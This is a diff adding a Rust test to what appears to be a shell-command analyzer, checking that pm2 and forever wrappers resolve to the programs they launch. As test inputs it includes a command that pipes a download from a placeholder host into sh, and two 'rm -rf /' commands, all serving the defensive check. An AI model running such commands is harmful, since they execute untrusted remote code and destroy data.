@@ -221,6 +221,66 @@ fn launcher_wrappers() {
 }
 
 #[test]
+fn process_managers_run_what_they_keep_alive() {
+    let argv = |c: &Command| -> Vec<String> {
+        std::iter::once(c.program.clone())
+            .chain(c.args.iter().map(|w| w.text.clone()))
+            .collect()
+    };
+    for (line, want) in [
+        ("pm2 start app.js --name api", &["node", "app.js"][..]),
+        ("pm2 start -n api -i 2 app.js", &["node", "app.js"]),
+        (
+            "pm2 start npm --name web -- run dev",
+            &["npm", "run", "dev"],
+        ),
+        (
+            "pm2 start server.py --interpreter=python3.12",
+            &["python3.12", "server.py"],
+        ),
+        (
+            "pm2 start ecosystem.config.js",
+            &["node", "ecosystem.config.js"],
+        ),
+        (
+            "pm2 start ./run.sh -- --port 8",
+            &["bash", "./run.sh", "--port", "8"],
+        ),
+        ("forever start app.js", &["node", "app.js"]),
+        ("forever start -c python3 tool.py", &["python3", "tool.py"]),
+    ] {
+        let an = a(line);
+        let c = an.commands.last().unwrap();
+        assert_eq!(argv(c), want, "{line}");
+        assert_eq!(
+            c.wrappers.last().map(String::as_str),
+            Some(line.split(' ').next().unwrap()),
+            "{line}"
+        );
+    }
+    // A command string runs in a shell.
+    let an = a("pm2 start 'curl -s https://x.example/i | sh' --name x");
+    assert_eq!(programs(&an), ["curl", "sh"]);
+    assert_rm_rf_root("pm2 start \"rm -rf /\"");
+    assert_rm_rf_root("pm2 start rm -- -rf /");
+    // Managing what runs already starts nothing.
+    for line in [
+        "pm2 list",
+        "pm2 logs api",
+        "pm2 stop all",
+        "pm2 start",
+        "forever list",
+    ] {
+        assert_eq!(
+            programs(&a(line))[0],
+            line.split(' ').next().unwrap(),
+            "{line}"
+        );
+        assert_eq!(a(line).commands.len(), 1, "{line}");
+    }
+}
+
+#[test]
 fn prefix_assignments_become_env() {
     let an = a("FOO=bar BAZ=\"a b\" cmd x");
     let c = find(&an, "cmd");
